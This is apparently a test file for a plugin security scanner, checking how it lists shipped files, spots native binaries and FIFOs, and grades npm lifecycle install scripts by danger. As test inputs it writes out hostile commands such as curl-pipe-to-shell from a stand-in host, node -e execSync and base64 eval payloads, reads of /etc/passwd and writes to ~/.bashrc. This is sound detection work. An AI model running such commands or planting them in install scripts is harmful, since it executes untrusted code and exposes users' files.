import { spawnSync } from 'node:child_process';
import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyzePlugin } from '../../analyzer/analyze.js';
import { binaryFormat, formatOfHead, listFiles } from '../../analyzer/files.js';
import { installScriptReports, scriptEntries } from '../../analyzer/install-scripts.js';
import { isDangerousCommand } from '../../rules/utils/commands.js';
import { MANIFEST, NATIVE_HEADS, writePlugin } from './helpers.js';

describe('listFiles', () => {
  it('finds every source npm pack would ship, in any case, with its source type, and the manifest of every production dependency', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, dependencies: { 'esm-dep': '*' }, optionalDependencies: { '@scope/cjs-dep': '*' }, devDependencies: { linter: '*' } },
      'index.js': '',
      'lib/a.mjs': '',
      'lib/b.cjs': '',
      'lib/c.ts': '',
      'lib/d.cts': '',
      'lib/e.mts': '',
      'lib/f.tsx': '',
      'lib/g.jsx': '',
      'lib/H.JS': '',
      'lib/types.d.ts': 'export declare const x: number;',
      'README.md': '# not code',
      'node_modules/esm-dep/package.json': { name: 'esm-dep', type: 'module', dependencies: { inner: '*' } },
      'node_modules/esm-dep/index.js': '',
      'node_modules/@scope/cjs-dep/package.json': { name: '@scope/cjs-dep' },
      'node_modules/@scope/cjs-dep/index.js': '',
      // A dependency of a dependency, nested where npm puts a second version, and one hoisted beside it.
      'node_modules/esm-dep/node_modules/inner/package.json': { name: 'inner', dependencies: { hoisted: '*' } },
      'node_modules/hoisted/package.json': { name: 'hoisted', scripts: { postinstall: 'node x.js' } },
      // npm installs neither a devDependency (nor what only it needs) nor whatever else sits in node_modules.
      'node_modules/linter/package.json': { name: 'linter', dependencies: { 'linter-dep': '*' }, scripts: { prepare: 'x' } },
      'node_modules/linter-dep/package.json': { name: 'linter-dep' },
      'node_modules/linter-dep/binding.gyp': '{}',
      'node_modules/stray/package.json': { name: 'stray' },
    });
    const files = await listFiles(root);
    expect(Object.fromEntries(files.sources.map((file) => [file.path, file.sourceType]))).toEqual({
      'index.js': 'commonjs',
      'lib/a.mjs': 'module',
      'lib/b.cjs': 'commonjs',
      'lib/c.ts': 'module',
      'lib/d.cts': 'commonjs',
      'lib/e.mts': 'module',
      'lib/f.tsx': 'module',
      'lib/g.jsx': 'commonjs',
      'lib/H.JS': 'commonjs',
    });
    expect(files.packageManifests).toEqual([
      'node_modules/@scope/cjs-dep/package.json',
      'node_modules/esm-dep/node_modules/inner/package.json',
      'node_modules/esm-dep/package.json',
      'node_modules/hoisted/package.json',
      'package.json',
    ]);
    expect(files.gypPackages).toEqual([]);
  });

  it('recognises native binaries by magic bytes and .node by name, not look-alikes', async () => {
    const javaClass = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]);
    const root = writePlugin({
      'package.json': { ...MANIFEST, dependencies: { dep: '*' } },
      'bin/tool': NATIVE_HEADS.elf,
      'bin/tool-mac': NATIVE_HEADS.machO,
      'bin/tool-universal': NATIVE_HEADS.fatMachO,
      'bin/tool.dat': NATIVE_HEADS.pe,
      'build/addon.node': 'whatever is inside',
      'assets/Main.class': javaClass,
      'assets/notes.txt': 'MZ is how this text starts, but it is not a PE image',
      'node_modules/dep/binding.gyp': '{}',
      'node_modules/dep/package.json': { name: 'dep' },
      'node_modules/dep-of-dep/binding.gyp': '{}',
    });
    const files = await listFiles(root);
    expect(files.natives.sort((a, b) => (a.path < b.path ? -1 : 1))).toEqual([
      { path: 'assets/Main.class', format: 'binary data' },
      { path: 'bin/tool', format: 'ELF' },
      { path: 'bin/tool-mac', format: 'Mach-O' },
      { path: 'bin/tool-universal', format: 'Mach-O universal' },
      { path: 'bin/tool.dat', format: 'PE' },
      { path: 'build/addon.node', format: 'Node addon' },
    ]);
    expect(files.gypPackages).toEqual(['node_modules/dep/binding.gyp']);
    expect(formatOfHead(javaClass)).toBeUndefined();
  });

  it('ships no symlinks from a folder (as npm pack), records the ones that leave it, and survives loops', async () => {
    const root = writePlugin({ 'package.json': MANIFEST, 'src/index.js': '' });
    symlinkSync('src', join(root, 'alias'));
    symlinkSync('..', join(root, 'src/loop'));
    symlinkSync('/etc', join(root, 'etc'));
    const files = await listFiles(root);
    expect(files.sources.map((file) => file.path)).toEqual(['src/index.js']);
    expect(files.escapingLinks).toEqual(['etc']);
    // An archive ships every entry it holds: links inside are followed once, `.git` is read too.
    const everything = await listFiles(root, { everything: true });
    expect(everything.sources.map((file) => file.path)).toEqual(['alias/index.js']);
    expect(everything.escapingLinks).toEqual(['etc']);
  });

  it('leaves out what npm pack leaves out: files outside "files", node_modules, .git', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, files: ['index.js', 'lib'] },
      'index.js': '',
      'lib/a.js': '',
      'test/spec.js': '',
      '.git/hooks/x.js': '',
      'node_modules/dep/index.js': '',
    });
    expect((await listFiles(root)).sources.map((file) => file.path)).toEqual(['index.js', 'lib/a.js']);
    expect((await listFiles(root, { everything: true })).sources.map((file) => file.path)).toEqual(['.git/hooks/x.js', 'index.js', 'lib/a.js', 'node_modules/dep/index.js', 'test/spec.js']);
  });

  it('tells images and fonts from other binary data', () => {
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    const woff2 = Buffer.concat([Buffer.from('wOF2'), Buffer.alloc(8)]);
    const wasm = Buffer.from('0061736d01000000', 'hex');
    expect(binaryFormat(png)).toBeUndefined();
    expect(binaryFormat(woff2)).toBeUndefined();
    expect(binaryFormat(wasm)).toBe('WebAssembly');
    expect(binaryFormat(Buffer.from([0x1f, 0x8b, 8, 0, 0, 0]))).toBe('binary data');
    expect(binaryFormat(Buffer.from('plain text, no NUL bytes'))).toBeUndefined();
  });
});

describe('FIFOs and devices under the names the gate reads', () => {
  const fifo = (root: string, path: string) => expect(spawnSync('mkfifo', [join(root, path)]).status).toBe(0);

  it('refuses, in one line, a plugin whose package.json or an ignore file is a FIFO or a device (npm would wait on it)', async () => {
    const bare = writePlugin({});
    fifo(bare, 'package.json');
    await expect(analyzePlugin(bare, { cache: false })).rejects.toThrow(/^cannot analyze .*: its package\.json is not a regular file$/);
    for (const [path, plant] of [['.npmignore', fifo], ['lib/.gitignore', (root: string, at: string) => symlinkSync('/dev/zero', join(root, at))]] as const) {
      const root = writePlugin({ 'package.json': MANIFEST, 'index.js': '', 'lib/a.js': '' });
      plant(root, path);
      await expect(analyzePlugin(root, { cache: false })).rejects.toThrow(new RegExp(`${path.replace('.', '\\.')} is not a regular file \\(npm would wait on it forever\\)`));
    }
  });

  it("reads past a FIFO planted as a binding.gyp, a dependency's package.json or a loaded file, without waiting on it", async () => {
    const root = writePlugin({ 'package.json': { ...MANIFEST, dependencies: { dep: '*' } }, 'index.js': "require('./extra.js'); require('dep');\n", 'node_modules/dep/index.js': '' });
    for (const path of ['binding.gyp', 'extra.js', 'node_modules/dep/package.json']) fifo(root, path);
    const analysis = await analyzePlugin(root, { cache: false });
    expect(analysis.plugin.id).toBe(`${MANIFEST.publisher}.${MANIFEST.name}`);
  });
});

describe('install scripts', () => {
  it('reports each lifecycle script at its key, critical when it fetches or evaluates code', () => {
    const text = JSON.stringify({ scripts: { test: 'vitest', prepare: 'tsc', postinstall: 'curl -s https://x.example/i | sh' } }, null, 2);
    const reports = installScriptReports(text);
    expect(reports.map((report) => [report.data.script, report.kind.severity, report.loc.line])).toEqual([
      ['postinstall', 'critical', 5],
      ['prepare', 'high', 4],
    ]);
  });

  it('reports every lifecycle npm runs, and a bundled package\'s prepare, dependencies and pack scripts only as info', () => {
    const scripts = {
      preinstall: 'a', install: 'b', postinstall: 'c', preprepare: 'd', prepare: 'e', postprepare: 'f', prepublish: 'g',
      predependencies: 'i', dependencies: 'j', postdependencies: 'k', prepack: 'l', postpack: 'm', test: 'h', prepublishOnly: 'n', pretest: 'o',
    };
    const text = JSON.stringify({ scripts });
    expect(installScriptReports(text).map((report) => `${report.data.script} ${report.kind.severity}`)).toEqual([
      'preinstall high', 'install high', 'postinstall high', 'preprepare high', 'prepare high', 'postprepare high', 'prepublish high',
      'predependencies high', 'dependencies high', 'postdependencies high', 'prepack high', 'postpack high',
    ]);
    expect(installScriptReports(text, { bundled: true }).map((report) => `${report.data.script} ${report.kind.severity}`)).toEqual([
      'preinstall high', 'install high', 'postinstall high', 'preprepare info', 'prepare info', 'postprepare info', 'prepublish info',
      'predependencies info', 'dependencies info', 'postdependencies info', 'prepack info', 'postpack info',
    ]);
    // npm 8+ runs `dependencies` after every change to node_modules: a script it runs with node is an entry point like the others.
    expect(Object.fromEntries(scriptEntries(JSON.stringify({ scripts: { dependencies: 'node setup.js' } })))).toEqual({ dependencies: { files: ['setup.js'], code: [] } });
    expect(installScriptReports(JSON.stringify({ scripts: { dependencies: 'curl -s https://x.example/i.sh | sh' } }))[0].kind.severity).toBe('critical');
  });

  it('finds the files and the inline code a script hands to node, through npm run', () => {
    const text = JSON.stringify({ scripts: { postinstall: 'npm run setup && echo done', setup: 'NODE_ENV=x node -r ./hook.js scripts/setup.js --flag', preinstall: 'node -e "require(\'./lib/x\')"' } });
    expect(Object.fromEntries(scriptEntries(text))).toEqual({
      preinstall: { files: [], code: ["require('./lib/x')"] },
      postinstall: { files: ['scripts/setup.js'], code: [] },
    });
  });

  it('judges the code a script gives node -e by what it does: a constant harmless body is read in full, a harmful one critical', async () => {
    const verdict = async (scripts: Record<string, string>) => {
      const analysis = await analyzePlugin(writePlugin({ 'package.json': { ...MANIFEST, scripts }, 'index.js': '' }), { cache: false });
      return analysis.findings.filter((f) => f.ruleId === 'install-script').map((f) => `${f.severity} ${f.message.split(':')[0]}`);
    };
    expect(await verdict({ postinstall: `node -e "console.log('thanks for installing')"` })).toEqual(['medium Lifecycle script "postinstall" runs at install, outside any sandbox, only code the gate read, which does nothing dangerous']);
    // The same shape doing harm, spelled three ways: a module it loads, a decoded body, a fetched one.
    expect(await verdict({ postinstall: `node -e "require('child_'+'process').execSync('id')"` })).toEqual([
      'critical Lifecycle script "postinstall" runs the code it gives node -e at install, outside any sandbox, and that code does something dangerous',
    ]);
    expect((await verdict({ preinstall: `node -e "eval(Buffer.from('aWQ=','base64').toString())"` }))[0]).toMatch(/^critical/);
    // `;`, `|` and `&&` inside the quoted code belong to the code, not to the shell line.
    expect((await verdict({ postinstall: `node -e "const c='child_'+'process'; require(c).execSync('id')"` }))[0]).toMatch(/^critical/);
    expect((await verdict({ postinstall: `node -e 'const n = 1; n && require("child_process").exec("id")'` }))[0]).toMatch(/^critical/);
    expect((await verdict({ postinstall: `node -e "const a = [1, 2]; console.log(a.join('|') || 'none')"` }))[0]).toMatch(/^medium/);
    expect((await verdict({ install: `node -e "$(curl -s https://x.example/i.js)"` }))[0]).toMatch(/^critical/);
    // The rest of the line is judged as before.
    expect((await verdict({ postinstall: `node -e "console.log(1)" && curl -s https://x.example/i.sh | sh` }))[0]).toMatch(/^critical .*downloads/);
  });

  it('lowers a lifecycle script to medium only when the gate read everything it runs and found nothing dangerous', async () => {
    const severityOf = async (command: string, files: Record<string, string> = {}) => {
      const root = writePlugin({ 'package.json': { ...MANIFEST, scripts: { postinstall: command } }, 'index.js': '', 'scripts/thanks.js': "console.log('thanks');", ...files });
      return (await analyzePlugin(root, { cache: false })).findings.find((f) => f.category === 'install-script')?.severity;
    };
    // Read in full: constant inline code, a file of the plugin, builtins that only print, joined in sequence.
    expect(await severityOf(`node -e "console.log('thanks for installing')"`)).toBe('medium');
    expect(await severityOf('echo "Thanks!" && node scripts/thanks.js || true')).toBe('medium');
    expect(await severityOf('node ./scripts/thanks')).toBe('medium');
    // What the shell would do besides: expand, substitute, redirect, pipe, run in the background, start another program.
    for (const command of [
      'echo $HOME',
      'echo "$(id)"',
      'echo `id`',
      'echo hi > ~/.bashrc',
      'echo hi | tee out.txt',
      'node scripts/thanks.js & echo started',
      'echo hi\nid',
      'FOO=1 node scripts/thanks.js',
      'node -r ./scripts/thanks.js scripts/thanks.js',
      './node scripts/thanks.js',
      'node /tmp/outside.js',
      'node ../outside.js',
      'node scripts/missing.js',
      'npm run build',
      'echo *.js',
      // A substitution shell-quote cannot split is still one sh runs (and no internal error).
      'echo ${HOME:-$(/usr/bin/id)}',
      ': "${X:=$(id)}"',
    ]) expect([command, await severityOf(command)]).toEqual([command, 'high']);
    // A shipped command named node is what `node scripts/thanks.js` runs: npm puts every node_modules/.bin above the
    // package first on the script's PATH and links there the commands of what it installs.
    const sh = '#!/bin/sh\n/usr/bin/id\n';
    for (const files of [
      { 'node_modules/fake/package.json': JSON.stringify({ name: 'fake', version: '1.0.0', bin: { node: 'run.sh' } }), 'node_modules/fake/run.sh': sh },
      { 'node_modules/node/package.json': JSON.stringify({ name: 'node', version: '1.0.0', bin: 'run.sh' }), 'node_modules/node/run.sh': sh },
      { 'node_modules/@x/tools/package.json': JSON.stringify({ name: '@x/tools', version: '1.0.0', bin: { nodejs: 'run.sh', other: 'x.sh' } }), 'node_modules/@x/tools/run.sh': sh },
    ] as Record<string, string>[]) {
      const root = writePlugin({ 'package.json': { ...MANIFEST, scripts: { postinstall: 'node scripts/thanks.js' }, bundleDependencies: ['fake', 'node', '@x/tools'] }, 'index.js': '', 'scripts/thanks.js': "console.log('thanks');", ...files });
      expect((await analyzePlugin(root, { cache: false })).findings.find((f) => f.category === 'install-script')?.severity).toBe('high');
    }
    for (const manifest of [{ bin: { node: 'run.sh' } }, { directories: { bin: 'tools' } }]) {
      const root = writePlugin({ 'package.json': { ...MANIFEST, scripts: { postinstall: 'node scripts/thanks.js' }, ...manifest }, 'index.js': '', 'scripts/thanks.js': "console.log('thanks');", 'run.sh': sh, 'tools/node': sh });
      expect((await analyzePlugin(root, { cache: false })).findings.find((f) => f.category === 'install-script')?.severity).toBe('high');
    }
    // Commands under other names change nothing.
    expect(await severityOf('node scripts/thanks.js', { 'node_modules/.placeholder': '' })).toBe('medium');
    const withTool = writePlugin({ 'package.json': { ...MANIFEST, scripts: { postinstall: 'node scripts/thanks.js' }, bin: { 'node-tool': 'cli.js', mytool: 'cli.js' } }, 'index.js': '', 'cli.js': "console.log('hi');", 'scripts/thanks.js': "console.log('thanks');" });
    expect((await analyzePlugin(withTool, { cache: false })).findings.find((f) => f.category === 'install-script')?.severity).toBe('medium');
    // Read, but dangerous: critical as before.
    expect(await severityOf('node scripts/grab.js', { 'scripts/grab.js': "require('child_process').execSync('id');" })).toBe('critical');
    expect(await severityOf(`node -e "require('fs').readFileSync('/etc/passwd')"`)).toBe('critical');
    // Read and quiet in the sandbox, but using files at install: npm's working directory is the package folder, so a
    // relative write the rules place in the data folder lands in the package (an unread module's place), and nothing
    // confines the rest. Also through a helper it requires, and through fs/promises.
    const installFiles = async (files: Record<string, string>) => {
      const root = writePlugin({ 'package.json': { ...MANIFEST, scripts: { postinstall: 'node scripts/gen.js' } }, 'index.js': '', ...files });
      return (await analyzePlugin(root, { cache: false })).findings.find((f) => f.category === 'install-script');
    };
    const generator = await installFiles({ 'scripts/gen.js': "require('fs').writeFileSync('lib/icons.js', Buffer.from('x'));" });
    expect([generator?.severity, generator?.message]).toEqual(['high', expect.stringContaining('runs scripts/gen.js at install, outside any sandbox, and that code uses the file system')]);
    expect((await installFiles({ 'scripts/gen.js': "require('./write');", 'scripts/write.js': "require('fs/promises').writeFile('out.txt', '');" }))?.severity).toBe('high');
    // Inline code given to node does the same.
    expect(await severityOf(`node -e "require('fs').writeFileSync('index.js', require('fs').readFileSync('README.md'))"`)).toBe('high');
    // Code that touches no file, or reads the package's own files by their full path, stays medium.
    expect((await installFiles({ 'scripts/gen.js': "const os = require('os'); console.log('installed on', os.platform());" }))?.severity).toBe('medium');
    expect((await installFiles({ 'scripts/gen.js': "const fs = require('fs'); const path = require('path');\nconsole.log('v' + JSON.parse(fs.readFileSync(path.join(__dirname, '..', 'package.json'), 'utf8')).version, fs.existsSync(path.join(__dirname, '..', '.git')));" }))?.severity).toBe('medium');
  });

  it.each(['node -e "require(1)"', 'wget http://x/y', 'echo aGk= | base64 -d | sh', 'bash -c "$(cat x)"', 'powershell -enc AAA'])('calls %s dangerous', (command) => {
    expect(isDangerousCommand(command)).toBe(true);
  });

  it.each(['node-gyp rebuild', 'tsc -p .', 'husky install'])('calls %s an ordinary script', (command) => {
    expect(isDangerousCommand(command)).toBe(false);
  });
});
